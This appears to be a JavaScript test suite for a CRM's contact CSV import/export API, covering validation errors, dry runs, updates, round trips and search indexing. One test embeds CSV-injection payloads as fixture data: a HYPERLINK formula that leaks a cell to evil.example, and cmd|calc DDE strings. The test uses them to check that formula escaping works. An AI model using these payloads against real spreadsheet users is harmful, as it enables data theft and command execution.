// CSV import and export of contacts (docs/contacts.md, "CSV") against the real binary:
// a file with broken rows -> a dry-run report naming each line, nothing written; the import
// applies the good rows only; re-import is unchanged; updates; export round trip; formula
// escaping (CSV injection); webhooks for imported contacts; 401/403/415/422.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { startEmma, login, api } from './lib/emma.mjs';

const HEADER = 'name,email,phone,company,stage,tags,size';
const GOOD_AND_BROKEN = [
	'\uFEFF' + HEADER, //                                         line 1 (with a byte-order mark)
	'Ada Lovelace,ADA@Example.org,+44 20 7946 0958,"Analytical, Ltd",lead,vip;b2b,12', // 2
	'Bob,bob-at-example.org,,Bobco,lead,,', //                    3 bad e-mail
	'Cleo,cleo@example.org,12345,,customer,,', //                 4 bad phone (no + or 00)
	'Dan,dan@example.org,,,boss,,', //                            5 unknown stage
	'Eve,eve@example.org,,Evil', //                               6 wrong column count
	'Mo,mo@example.org,,"multi', //                               7 quoted field across lines ...
	'line company",customer,x,', //                               8 ... (no line breaks in a company)
	'Fay,fay@example.org,,,lead,,not-a-number', //                9 bad custom number
	',,,,lead,,', //                                              10 no e-mail and no phone
	'"Quote ""Q"" Person",q@example.org,,"Q, Inc",customer,x,', //  11 good
	'"Gus,gus@example.org,,,lead,,', //                           12 unterminated quote
	'Hal,hal@example.org,0049 30 123456,Halco,won back,,7', //    13 good ("won back", 0049)
].join('\r\n') + '\r\n';

async function importCsv(emma, admin, csv, query = '') {
	return api(emma.url, 'POST', `/api/v1/contacts/import${query}`, {
		...admin, body: csv, headers: { 'Content-Type': 'text/csv; charset=utf-8' },
	});
}

async function contactsByEmail(emma, admin) {
	const r = await api(emma.url, 'GET', '/api/v1/contacts?limit=200', { cookie: admin.cookie });
	assert.equal(r.status, 200, r.text);
	return Object.fromEntries(r.json.contacts.map((c) => [c.email || c.phone, c]));
}

/** A small RFC 4180 reader for checking the export from the outside. */
function parseCsv(text) {
	const rows = [];
	let row = [], cell = '', q = false;
	for (let i = 0; i < text.length; i++) {
		const ch = text[i];
		if (q) {
			if (ch === '"' && text[i + 1] === '"') { cell += '"'; i++; } else if (ch === '"') q = false; else cell += ch;
		} else if (ch === '"') q = true;
		else if (ch === ',') { row.push(cell); cell = ''; } else if (ch === '\r') { /* CRLF */ } else if (ch === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; } else cell += ch;
	}
	if (cell || row.length) { row.push(cell); rows.push(row); }
	return rows;
}

test('CSV import: dry run reports broken rows by line, import applies the good ones, export round trip', async (t) => {
	const emma = await startEmma({ t });
	const admin = await login(emma.url, emma.adminEmail, emma.adminPassword);
	let r = await api(emma.url, 'POST', '/api/v1/custom-fields', { ...admin, body: { key: 'size', label: 'Company size', type: 'number' } });
	assert.equal(r.status, 201, r.text);

	// ---- 401 / 403 / 415 / 422 ----
	r = await api(emma.url, 'POST', '/api/v1/contacts/import', { body: 'email\r\na@example.org\r\n', headers: { 'Content-Type': 'text/csv' } });
	assert.equal(r.status, 401);
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv');
	assert.equal(r.status, 401);
	r = await api(emma.url, 'POST', '/api/v1/operators', { ...admin, body: { email: 'agent@example.org', name: 'Agent', role: 'agent', password: 'agent-password-1' } });
	assert.equal(r.status, 201, r.text);
	const agent = await login(emma.url, 'agent@example.org', 'agent-password-1');
	r = await importCsv(emma, agent, 'email\r\na@example.org\r\n');
	assert.equal(r.status, 403);
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv', { cookie: agent.cookie });
	assert.equal(r.status, 403);
	r = await api(emma.url, 'POST', '/api/v1/contacts/import', { ...admin, body: { email: 'x' } });
	assert.equal(r.status, 415);
	for (const [csv, field, what] of [
		['', null, /empty/],
		['name,company\r\nA,B\r\n', null, /email or a phone column/],
		['name,email,colour\r\nA,a@example.org,red\r\n', 'colour', /unknown column 'colour'/],
		['email,Email\r\na@example.org,b@example.org\r\n', 'email', /twice/],
		['"email\r\n', null, /line 1/],
	]) {
		r = await importCsv(emma, admin, csv);
		assert.equal(r.status, 422, `${JSON.stringify(csv)}: ${r.text}`);
		assert.equal(r.json.error.code, 'invalid_csv');
		assert.equal(r.json.error.field ?? null, field);
		assert.match(r.json.error.message, what);
	}
	r = await importCsv(emma, admin, 'email\r\n', '?dry_run=maybe');
	assert.equal(r.status, 422);
	assert.equal(r.json.error.field, 'dry_run');

	// A webhook receives the imported contacts' events (the outbox is written with them).
	r = await api(emma.url, 'POST', '/api/v1/webhooks', { ...admin, body: { url: 'http://127.0.0.1:9/none', events: ['contact.created'], enabled: false } });
	assert.equal(r.status, 201);
	const hook = r.json.webhook;
	await api(emma.url, 'PATCH', `/api/v1/webhooks/${hook.id}`, { ...admin, body: { enabled: true } });

	// ---- dry run: the report, nothing written ----
	r = await importCsv(emma, admin, GOOD_AND_BROKEN, '?dry_run=1');
	assert.equal(r.status, 200, r.text);
	const dry = r.json;
	assert.equal(dry.dry_run, true);
	assert.equal(dry.rows, 11, 'lines 7 and 8 are one record');
	assert.equal(dry.created, 3, JSON.stringify(dry));
	assert.equal(dry.updated, 0);
	assert.equal(dry.unchanged, 0);
	assert.equal(dry.skipped, 8);
	const byLine = Object.fromEntries(dry.errors.map((e) => [e.line, e]));
	assert.deepEqual(Object.keys(byLine).map(Number).sort((a, b) => a - b), [3, 4, 5, 6, 7, 9, 10, 12]);
	assert.equal(byLine[3].field, 'email');
	assert.match(byLine[3].message, /@/);
	assert.equal(byLine[4].field, 'phone');
	assert.equal(byLine[5].field, 'stage');
	assert.match(byLine[5].message, /lead, customer, lost or won_back/);
	assert.equal(byLine[6].field, null);
	assert.match(byLine[6].message, /expected 7 columns as in the header, found 4/);
	assert.equal(byLine[7].field, 'company');
	assert.match(byLine[7].message, /control characters/);
	assert.equal(byLine[9].field, 'size');
	assert.match(byLine[9].message, /number/);
	assert.equal(byLine[10].field, 'email');
	assert.match(byLine[12].message, /quoted field is not closed/);
	assert.equal(dry.created + dry.updated + dry.unchanged + dry.skipped, dry.rows);
	assert.equal(dry.errors_truncated, false);
	let list = await contactsByEmail(emma, admin);
	assert.equal(Object.keys(list).length, 0, 'a dry run writes nothing');

	// ---- import: good rows applied, broken ones skipped ----
	r = await importCsv(emma, admin, GOOD_AND_BROKEN);
	assert.equal(r.status, 200, r.text);
	assert.equal(r.json.dry_run, false);
	assert.equal(r.json.created, 3);
	assert.deepEqual(r.json.errors, dry.errors, 'the same report as the dry run');
	list = await contactsByEmail(emma, admin);
	assert.deepEqual(Object.keys(list).sort(), ['ada@example.org', 'hal@example.org', 'q@example.org']);
	const ada = list['ada@example.org'];
	assert.equal(ada.name, 'Ada Lovelace');
	assert.equal(ada.phone, '+442079460958');
	assert.equal(ada.company, 'Analytical, Ltd');
	assert.equal(ada.stage, 'lead');
	assert.equal(ada.source, 'import');
	assert.deepEqual(ada.tags, ['b2b', 'vip']);
	assert.deepEqual(ada.custom, { size: 12 });
	assert.equal(list['q@example.org'].name, 'Quote "Q" Person');
	assert.equal(list['q@example.org'].company, 'Q, Inc');
	assert.equal(list['hal@example.org'].stage, 'won_back');
	assert.equal(list['hal@example.org'].phone, '+4930123456');
	r = await api(emma.url, 'GET', `/api/v1/webhooks/${hook.id}/deliveries?limit=50`, { cookie: admin.cookie });
	assert.equal(r.json.deliveries.filter((d) => d.event === 'contact.created').length, 3, 'one contact.created per new contact');
	assert.ok(r.json.deliveries.some((d) => d.data.contact.email === 'ada@example.org'));

	// ---- the same file again: unchanged; a changed file: updated ----
	r = await importCsv(emma, admin, GOOD_AND_BROKEN);
	assert.equal(r.json.created, 0);
	assert.equal(r.json.unchanged, 3);
	const change = [HEADER,
		'Ada King,ada@example.org,,,customer,vip;newsletter,',   // new name, stage and a tag
		',,+4930123456,,,,9',                                    // Hal matched by phone, size 9
		'Ivy,ivy@example.org,,,,,',                              // new
		'Ivy,ivy@example.org,,Ivyco,,,',                         // the same person again in the file
	].join('\n') + '\n';
	r = await importCsv(emma, admin, change, '?dry_run=1');
	assert.equal(r.status, 200, r.text);
	assert.deepEqual([r.json.created, r.json.updated, r.json.unchanged, r.json.skipped], [1, 3, 0, 0]);
	r = await importCsv(emma, admin, change);
	assert.deepEqual([r.json.created, r.json.updated, r.json.unchanged, r.json.skipped], [1, 3, 0, 0]);
	list = await contactsByEmail(emma, admin);
	assert.equal(list['ada@example.org'].name, 'Ada King');
	assert.equal(list['ada@example.org'].stage, 'customer');
	assert.equal(list['ada@example.org'].phone, '+442079460958', 'an empty cell keeps the value');
	assert.deepEqual(list['ada@example.org'].tags, ['b2b', 'newsletter', 'vip']);
	assert.deepEqual(list['hal@example.org'].custom, { size: 9 });
	assert.equal(list['ivy@example.org'].company, 'Ivyco');
	assert.equal(Object.keys(list).length, 4);

	// ---- export: CSV, filters, round trip ----
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv', { cookie: admin.cookie });
	assert.equal(r.status, 200);
	assert.match(r.headers.get('content-type'), /^text\/csv/);
	assert.match(r.headers.get('content-disposition'), /attachment/);
	const rows = parseCsv(r.text);
	assert.deepEqual(rows[0], ['id', 'name', 'email', 'phone', 'company', 'stage', 'tags', 'owner', 'source',
		'lifetime_value', 'orders', 'created_at', 'updated_at', 'size']);
	assert.equal(rows.length, 5);
	const q = rows.find((x) => x[2] === 'q@example.org');
	assert.equal(q[1], 'Quote "Q" Person');
	assert.equal(q[4], 'Q, Inc');
	const adaRow = rows.find((x) => x[2] === 'ada@example.org');
	assert.equal(adaRow[3], "'+442079460958", 'a leading + is guarded like a formula');
	assert.equal(adaRow[6], 'b2b;newsletter;vip');
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv?stage=customer', { cookie: admin.cookie });
	assert.deepEqual(parseCsv(r.text).slice(1).map((x) => x[2]).sort(), ['ada@example.org', 'q@example.org']);
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv?tag=VIP', { cookie: admin.cookie });
	assert.deepEqual(parseCsv(r.text).slice(1).map((x) => x[2]), ['ada@example.org']);
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv?stage=boss', { cookie: admin.cookie });
	assert.equal(r.status, 422);
	assert.equal(r.json.error.field, 'stage');

	// Round trip: the export imported again changes nothing.
	const exported = (await api(emma.url, 'GET', '/api/v1/contacts/export.csv', { cookie: admin.cookie })).text;
	r = await importCsv(emma, admin, exported);
	assert.equal(r.status, 200, r.text);
	assert.deepEqual([r.json.created, r.json.updated, r.json.unchanged, r.json.skipped], [0, 0, 4, 0], JSON.stringify(r.json));
});

test('CSV export escapes formulas (CSV injection) and imports them back as text', async (t) => {
	const emma = await startEmma({ t });
	const admin = await login(emma.url, emma.adminEmail, emma.adminPassword);
	const evil = [
		'name,email,company',
		'"=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",f1@example.org,+cmd|calc',
		'@SUM(1+1)*cmd|\' /C calc\'!A0,f2@example.org,-2+3',
		'Normal = fine,f3@example.org,a@b',
	].join('\r\n') + '\r\n';
	let r = await api(emma.url, 'POST', '/api/v1/contacts/import', { ...admin, body: evil, headers: { 'Content-Type': 'text/csv' } });
	assert.equal(r.status, 200, r.text);
	assert.equal(r.json.created, 3, r.text);
	const stored = await contactsByEmail(emma, admin);
	assert.equal(stored['f1@example.org'].name, '=HYPERLINK("http://evil.example/?x="&A1,"click")', 'stored as given');
	r = await api(emma.url, 'GET', '/api/v1/contacts/export.csv', { cookie: admin.cookie });
	const rows = parseCsv(r.text).slice(1);
	for (const row of rows) {
		for (const cellText of row) assert.ok(!/^[=+\-@]/.test(cellText), `cell starts with a formula character: ${cellText}`);
	}
	const f1 = rows.find((x) => x[2] === 'f1@example.org');
	assert.equal(f1[1], '\'=HYPERLINK("http://evil.example/?x="&A1,"click")');
	assert.equal(f1[4], "'+cmd|calc");
	const f2 = rows.find((x) => x[2] === 'f2@example.org');
	assert.equal(f2[1], "'@SUM(1+1)*cmd|' /C calc'!A0");
	assert.equal(f2[4], "'-2+3");
	const f3 = rows.find((x) => x[2] === 'f3@example.org');
	assert.equal(f3[1], 'Normal = fine');
	assert.equal(f3[4], 'a@b');
	// Imported back, the guard quote is taken off again: nothing changes.
	r = await api(emma.url, 'POST', '/api/v1/contacts/import', { ...admin, body: r.text, headers: { 'Content-Type': 'text/csv' } });
	assert.equal(r.json.unchanged, 3, r.text);
});

test('CSV import: imported contacts are in the search index, in every write of the import', async (t) => {
	const emma = await startEmma({ t });
	const admin = await login(emma.url, emma.adminEmail, emma.adminPassword);
	// 2100 rows: more than one write (2000 rows each).
	const lines = ['name,email,phone,tags'];
	for (let i = 1; i <= 2100; i++) {
		const name = i % 700 === 0 ? `Quokka Findme ${i}` : `Person ${i}`;
		lines.push(`${name},person${i}@import.example,+4930777${String(i).padStart(5, '0')},${i % 3 ? 'other' : 'three'}`);
	}
	let r = await importCsv(emma, admin, lines.join('\r\n') + '\r\n');
	assert.equal(r.status, 200, r.text);
	assert.equal(r.json.created, 2100, r.text);
	const search = async (qs) => {
		const res = await api(emma.url, 'GET', `/api/v1/contacts?limit=200&${qs}`, { cookie: admin.cookie });
		assert.equal(res.status, 200, res.text);
		return res.json.contacts.map((c) => c.name);
	};
	// Text fragments find rows of the first and of the second write.
	assert.deepEqual(await search('q=quokka'), ['Quokka Findme 2100', 'Quokka Findme 1400', 'Quokka Findme 700']);
	assert.deepEqual(await search('q=person2099%40import'), ['Person 2099']);
	assert.deepEqual(await search('q=person17%40import'), ['Person 17']);
	assert.deepEqual(await search('q=030%20777%2002050'), ['Person 2050']);
	// Text and tag together.
	assert.deepEqual(await search('q=findme&tag=three'), ['Quokka Findme 2100']);
	assert.deepEqual(await search('q=findme&tag=other'), ['Quokka Findme 1400', 'Quokka Findme 700']);
	// A change of name after the import reaches the index too.
	r = await importCsv(emma, admin, 'name,email\r\nWombat Renamed,person5@import.example\r\n');
	assert.equal(r.status, 200, r.text);
	assert.equal(r.json.updated, 1, r.text);
	assert.deepEqual(await search('q=wombat'), ['Wombat Renamed']);
	assert.deepEqual(await search('q=person5%40import'), ['Wombat Renamed']);
});

test('CSV import: a big import answers once every new contact is found by search; later rows for the same person apply on top; new ids are ct + 16 characters', async (t) => {
	const emma = await startEmma({ t, env: { EMMA_SERVER_BODY_MAX: '8m' } });
	const admin = await login(emma.url, emma.adminEmail, emma.adminPassword);
	// 40,000 rows: several writes of new contacts and several of the search index.
	const lines = ['name,email,company,tags'];
	for (let i = 1; i <= 40000; i++) lines.push(`Person ${i},p${i}@bulk.example,Firm ${i % 100},t${i % 3}`);
	// Rows for people created earlier in the same file.
	lines.push('Xylophon Nachher,p7@bulk.example,,late');
	lines.push('Yakbutter Spaeter,p39999@bulk.example,,');
	const body = lines.join('\n') + '\n';
	let r = await api(emma.url, 'POST', '/api/v1/contacts/import', {
		...admin, body, headers: { 'Content-Type': 'text/csv' },
	});
	assert.equal(r.status, 200, r.text);
	assert.equal(r.json.created, 40000, r.text);
	assert.equal(r.json.updated, 2, r.text);
	assert.equal(r.json.skipped, 0, r.text);
	const search = async (qs) => {
		const res = await api(emma.url, 'GET', `/api/v1/contacts?limit=200&${qs}`, { cookie: admin.cookie });
		assert.equal(res.status, 200, res.text);
		return res.json.contacts;
	};
	// Right after the answer: the first, a middle and the last row are found.
	for (const n of [1, 20017, 40000]) {
		const found = await search(`q=p${n}%40bulk`);
		assert.deepEqual(found.map((c) => c.email), [`p${n}@bulk.example`]);
		assert.match(found[0].id, /^ct[a-z2-7]{16}$/);
	}
	// Renamed by a later row: found by the new name only.
	assert.deepEqual((await search('q=xylophon')).map((c) => c.email), ['p7@bulk.example']);
	assert.deepEqual((await search('q=yakbutter')).map((c) => c.email), ['p39999@bulk.example']);
	assert.deepEqual(await search('q=xylophon&tag=late').then((c) => c.length), 1);
	assert.equal((await search('q=p7%40bulk'))[0].name, 'Xylophon Nachher');
	// Text and tag together across the writes: Firm 42 holds 400 people, a third of them t0.
	let all = [], cursor = '';
	do {
		const res = await api(emma.url, 'GET', `/api/v1/contacts?limit=200&q=firm%2042&tag=t0${cursor ? `&cursor=${cursor}` : ''}`, { cookie: admin.cookie });
		assert.equal(res.status, 200, res.text);
		all = all.concat(res.json.contacts);
		cursor = res.json.next_cursor;
	} while (cursor);
	const want = [];
	for (let i = 40000; i >= 1; i--) if (i % 100 === 42 && i % 3 === 0) want.push(`p${i}@bulk.example`);
	assert.deepEqual(all.map((c) => c.email), want);
	// Importing the file again: every row unchanged.
	r = await api(emma.url, 'POST', '/api/v1/contacts/import', {
		...admin, body, headers: { 'Content-Type': 'text/csv' },
	});
	assert.equal(r.status, 200, r.text);
	// The two people named twice come out updated twice again (first by
	// their first row, then by their later one).
	assert.equal(r.json.unchanged, 39998, r.text);
	assert.equal(r.json.updated, 4, r.text);
});
